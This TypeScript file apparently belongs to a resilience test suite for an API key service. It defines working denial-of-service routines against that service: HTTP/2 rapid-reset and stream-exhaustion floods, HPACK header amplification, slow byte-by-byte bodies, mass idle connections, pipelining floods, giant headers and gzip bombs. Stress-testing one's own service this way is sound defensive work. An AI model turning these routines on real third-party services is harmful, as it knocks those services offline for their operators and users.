import { Agent, request } from "node:http";
import { setTimeout as sleep } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import { createRootKeySecret } from "../../src/platform/secrets/rootKeySecret.ts";
import { type Attack, type Attacker, onLines } from "./attack.ts";
import { connectionAttacks } from "./connections.ts";
import { holdStreams } from "./http2Streams.ts";
import { largeBodyAttacks } from "./largeBodies.ts";
import { pour } from "./pour.ts";
import { literal, openRawHttp2, reference } from "./rawHttp2.ts";
import { sendBodies } from "./sendBodies.ts";

const MEGABYTE = 1024 * 1024;
/** Of RST_STREAM. */
const CANCEL = 8;

/** `{"name":"attack"}` with blanks behind it, so many bytes in all. */
const padded = (bytes: number): Buffer => {
  const text = Buffer.alloc(bytes, " ");
  text.write('{"name":"attack"');
  text.write("}", bytes - 1);
  return text;
};

/** One request after the other on each of many connections of HTTP/1.1. */
const callOften = (attacker: Attacker, lines: number, headers: () => Record<string, string>): Promise<void> => {
  const agent = new Agent({ keepAlive: true, maxSockets: lines });
  const body = '{"apiId":"api_none"}';
  return onLines(
    lines,
    attacker,
    () =>
      new Promise((resolve, reject) => {
        const own = { "content-type": "application/json", "content-length": body.length, ...headers() };
        const call = request(`${attacker.target.url}/v2/apis.getApi`, { agent, method: "POST", headers: own }, (response) => {
          attacker.count(response.statusCode ?? 0);
          response.resume();
          response.on("end", resolve).on("error", reject);
        });
        call.on("error", reject);
        call.end(body);
      }),
  );
};

const question = Buffer.concat([Buffer.from([0, 0, 0, 0, 25, 0x22, 23]), Buffer.from("latchkey.v2.KeysService")]);
const grpc = (path: string) => () => ({ ":path": path, "content-type": "application/grpc", te: "trailers" });
const v2 = ({ target }: Attacker) => ({
  ":path": "/v2/apis.createApi",
  "content-type": "application/json",
  authorization: `Bearer ${target.useless}`,
});
const plainFields = (path: string): Buffer =>
  Buffer.concat([literal(":method", "GET"), literal(":scheme", "http"), literal(":authority", "x"), literal(":path", path)]);

/** Section B of the attacks that the service withstands; bodies are a list of their own (`BodyAttack`). */
export const attacks: readonly Attack[] = [
  {
    name: "slots",
    description: "40 × 256 streams of a root key without permissions, headers only",
    run: (attacker) => holdStreams(attacker, { connections: 40, streams: 256, headers: v2, begin: () => undefined }),
  },
  {
    name: "trickle",
    description: "40 × 100 bodies that come byte by byte",
    run: (attacker) =>
      holdStreams(attacker, {
        connections: 40,
        streams: 100,
        headers: v2,
        begin: (stream) => {
          const timer = setInterval(() => stream.write(" "), 500);
          stream.on("close", () => clearInterval(timer));
        },
      }),
  },
  {
    name: "reflection",
    description: "20 × 200 reflection streams with a window of 0",
    run: (attacker) =>
      holdStreams(attacker, {
        connections: 20,
        streams: 200,
        window: 0,
        headers: grpc("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"),
        begin: (stream) => stream.write(question),
      }),
  },
  {
    name: "watches",
    description: "40 × 256 quiet Health/Watch streams",
    run: (attacker) =>
      holdStreams(attacker, {
        connections: 40,
        streams: 256,
        headers: grpc("/grpc.health.v1.Health/Watch"),
        begin: (stream) => stream.end(Buffer.alloc(5)),
      }),
  },
  {
    name: "unread",
    description: "40 × 256 answers with a window of 0, without credentials",
    run: (attacker) =>
      holdStreams(attacker, {
        connections: 40,
        streams: 256,
        window: 0,
        headers: () => ({ ":path": "/v2/apis.getApi", "content-type": "application/json" }),
        begin: (stream) => stream.end("{}"),
      }),
  },
  {
    name: "unknown-root-keys",
    description: "400 connections, each call with another root key that does not exist",
    run: (attacker) => callOften(attacker, 400, () => ({ authorization: `Bearer ${createRootKeySecret().key.reveal()}` })),
  },
  {
    name: "hpack",
    description: "40 connections, 15 KB of headers in 120 bytes each",
    run: (attacker) =>
      onLines(40, attacker, async () => {
        const connection = await openRawHttp2(attacker.target);
        const large = literal("x", "a".repeat(95), true);
        await connection.write(connection.request(Buffer.concat([plainFields("/v2/liveness"), large])));
        const references = Buffer.concat([plainFields("/v2/liveness"), ...Array.from({ length: 115 }, () => reference)]);
        let sent = 1;
        while (!attacker.signal.aborted && !connection.socket.destroyed) {
          const batch = Array.from({ length: Math.max(0, 64 + connection.answers() - sent) }, () => connection.request(references));
          sent += batch.length;
          if (batch.length > 0) await connection.write(Buffer.concat(batch));
          await sleep(1);
        }
        for (let i = 0; i < connection.answers(); i++) attacker.count("answer");
        attacker.count("connection closed");
      }),
  },
  {
    name: "bursts",
    description: "40 connections that open 100 streams of 28 fields each at the same time, three times a second",
    run: (attacker) =>
      onLines(40, attacker, async () => {
        const connection = await openRawHttp2(attacker.target);
        const fields = Buffer.concat([
          plainFields("/v2/liveness"),
          ...Array.from({ length: 24 }, (_, i) => literal(`x-${i}`, "a".repeat(20))),
        ]);
        while (!attacker.signal.aborted && !connection.socket.destroyed) {
          await connection.write(Buffer.concat(Array.from({ length: 100 }, () => connection.request(fields))));
          // All of them at the same instant.
          await sleep(300 - (Date.now() % 300));
        }
        for (let i = 0; i < connection.answers(); i++) attacker.count("answer");
        attacker.count("connection closed");
      }),
  },
  {
    name: "rapid-reset",
    description: "40 connections that open and reset streams in the same bytes",
    run: (attacker) =>
      onLines(40, attacker, async () => {
        const connection = await openRawHttp2(attacker.target);
        while (!attacker.signal.aborted && !connection.socket.destroyed) {
          await connection.write(Buffer.concat(Array.from({ length: 100 }, () => connection.request(plainFields("/v2/liveness"), CANCEL))));
          attacker.count("100 resets");
          await sleep(1);
        }
        attacker.count("connection closed");
      }),
  },
  {
    name: "idle",
    description: "connections of HTTP/2 that do nothing, as many as are taken, up to 5,000",
    run: async (attacker) => {
      const open = new Set<unknown>();
      // The others are to have connections left.
      const from = attacker.target.host.startsWith("127.") ? "127.0.0.2" : undefined;
      await onLines(20, attacker, async () => {
        if (open.size >= 5_000) return sleep(100);
        const { socket } = await openRawHttp2(attacker.target, from);
        open.add(socket);
        socket.once("close", () => {
          open.delete(socket);
          attacker.count("connection closed");
        });
        await sleep(1);
      });
      for (let i = 0; i < open.size; i++) attacker.count("connection stays");
    },
  },
  {
    name: "pipelining",
    description: "10 connections of HTTP/1.1 that send a thousand requests at a time, without credentials",
    run: (attacker) => pour(attacker, { connections: 10, head: "", more: "GET /v2/liveness HTTP/1.1\r\nhost: x\r\n\r\n".repeat(1_000) }),
  },
  {
    name: "shredded-bodies",
    description: "5 bodies of HTTP/1.1 in chunks of one byte, from a root key without permissions",
    run: (attacker) =>
      pour(attacker, {
        connections: 5,
        head: `POST /v2/apis.createApi HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${attacker.target.useless}\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n`,
        more: "1\r\n \r\n".repeat(10_000),
      }),
  },
  {
    name: "giant-headers",
    description: "40 connections of HTTP/1.1, 15 KB of headers each call",
    run: (attacker) => {
      const padding = Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`x-padding-${i}`, "a".repeat(135)]));
      return callOften(attacker, 40, () => ({ authorization: `Bearer ${attacker.target.useless}`, ...padding }));
    },
  },
  ...[
    {
      name: "large-bodies",
      description: "8 bodies of 10 MiB at a time, from a root key without permissions",
      procedure: "apis.createApi",
      edge: "v2",
      bytes: () => padded(10 * MEGABYTE),
    } as const,
    {
      name: "too-large-bodies",
      description: "8 bodies of 11 MiB at a time",
      procedure: "apis.createApi",
      edge: "v2",
      bytes: () => padded(11 * MEGABYTE),
    } as const,
    {
      name: "gzip-bombs",
      description: "32 bodies at a time that become 10 MiB",
      procedure: "apis.createApi",
      edge: "connect",
      bytes: () => gzipSync(padded(10 * MEGABYTE)),
      headers: { "content-encoding": "gzip" },
      connections: 32,
    } as const,
  ].map(sendBodies),
  ...connectionAttacks,
  ...largeBodyAttacks,
];
